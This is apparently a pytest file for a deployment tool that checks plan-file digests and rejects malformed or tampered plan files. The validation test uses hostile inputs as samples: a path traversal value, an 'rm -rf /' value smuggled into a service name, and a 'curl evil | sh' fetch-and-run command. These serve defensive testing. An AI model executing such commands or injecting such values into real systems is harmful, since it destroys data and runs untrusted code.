"""Plan files: the digests that tie a plan to a state, and a plan file as untrusted input."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from kbinfra.containers import Facts, ObservedContainer
from kbinfra.errors import SpecError
from kbinfra.plan import desired_services
from kbinfra.plan_file import (
    FORMAT,
    PlanFile,
    PlanOutdatedError,
    check_plan_file,
    desired_digest,
    observed_digest,
    read_plan_file,
)
from kbinfra.stack import Stack

CONTAINER = ObservedContainer(
    id="a" * 64,
    name="kb-redis",
    state="running",
    status="Up 3 minutes (healthy)",
    image="redis:7",
    image_id="sha256:" + "b" * 64,
    labels={"io.kbinfra.stack": "kb"},
)
FACTS = Facts(containers=(CONTAINER,), images={"redis:7": "sha256:" + "b" * 64}, deployed_files={})


def test_the_observed_digest_ignores_health_and_uptime_but_not_state() -> None:
    later = replace(CONTAINER, status="Up 2 hours (unhealthy)")
    assert observed_digest(replace(FACTS, containers=(later,))) == observed_digest(FACTS)
    stopped = replace(CONTAINER, state="exited", status="Exited (0) 1 second ago")
    assert observed_digest(replace(FACTS, containers=(stopped,))) != observed_digest(FACTS)
    recreated = replace(CONTAINER, id="c" * 64)
    assert observed_digest(replace(FACTS, containers=(recreated,))) != observed_digest(FACTS)
    assert observed_digest(replace(FACTS, deployed_files={"a.conf": "0" * 64})) != observed_digest(
        FACTS
    )


def test_the_desired_digest_changes_with_any_rendered_output(
    make_stack: Callable[..., Stack],
) -> None:
    stack = make_stack("minimum")
    other = make_stack("minimum", {"services": {"postgres": {"max_connections": 66}}})
    same = make_stack("minimum")
    digest = desired_digest(desired_services(stack, stack.rendered), stack.rendered)
    assert digest == desired_digest(desired_services(same, same.rendered), same.rendered)
    assert digest != desired_digest(desired_services(other, other.rendered), other.rendered)


def document(**changes: Any) -> dict[str, Any]:
    base = {
        "format": FORMAT,
        "kbinfra": "0.1.0",
        "stack": "kb",
        "target": "local",
        "only": [],
        "desired": "d" * 64,
        "observed": observed_digest(FACTS),
        "changes": True,
        "plan": {"services": []},
    }
    return {**base, **changes}


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ("not json", "not JSON"),
        (json.dumps(document(format="kbinfra-plan/9")), "is not kbinfra-plan/1"),
        (json.dumps(document(desired="../../etc")), "desired"),
        (json.dumps(document(only=["Postgres; rm -rf /"])), "only"),
        (json.dumps(document(run="curl evil | sh")), "run"),
        (json.dumps([1, 2]), "not a usable plan file"),
    ],
)
def test_a_plan_file_is_validated_by_type(tmp_path: Path, content: str, problem: str) -> None:
    path = tmp_path / "x.plan"
    path.write_text(content)
    with pytest.raises(SpecError) as raised:
        read_plan_file(path)
    assert problem in str(raised.value)
    assert raised.value.where == str(path)


def test_a_missing_or_oversized_plan_file_is_one_clear_error(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="plan file not found"):
        read_plan_file(tmp_path / "nope.plan")
    with pytest.raises(SpecError, match="is a directory"):
        read_plan_file(tmp_path)
    big = tmp_path / "big.plan"
    big.write_bytes(b" " * (5 * 1024 * 1024))
    with pytest.raises(SpecError, match="too large"):
        read_plan_file(big)


def test_a_plan_for_another_stack_target_or_state_is_refused(
    make_stack: Callable[..., Stack],
) -> None:
    stack = make_stack("minimum")
    desired = desired_services(stack, stack.rendered)
    good = PlanFile.model_validate(
        document(desired=desired_digest(desired, stack.rendered), observed=observed_digest(FACTS))
    )

    def check(saved: PlanFile, facts: Facts = FACTS, target: str = "local") -> None:
        check_plan_file(
            saved,
            stack="kb",
            target=target,
            desired=desired,
            rendered=stack.rendered,
            facts=facts,
            where="x.plan",
        )

    check(good)
    with pytest.raises(PlanOutdatedError, match="not 'kb'"):
        check(good.model_copy(update={"stack": "other"}))
    with pytest.raises(PlanOutdatedError, match="for target local, not ssh://"):
        check(good, target="ssh://deploy@10.0.0.5:22")
    with pytest.raises(PlanOutdatedError, match="the stack changed"):
        check(good.model_copy(update={"desired": "e" * 64}))
    with pytest.raises(PlanOutdatedError, match="the target local changed"):
        check(good, facts=replace(FACTS, containers=()))
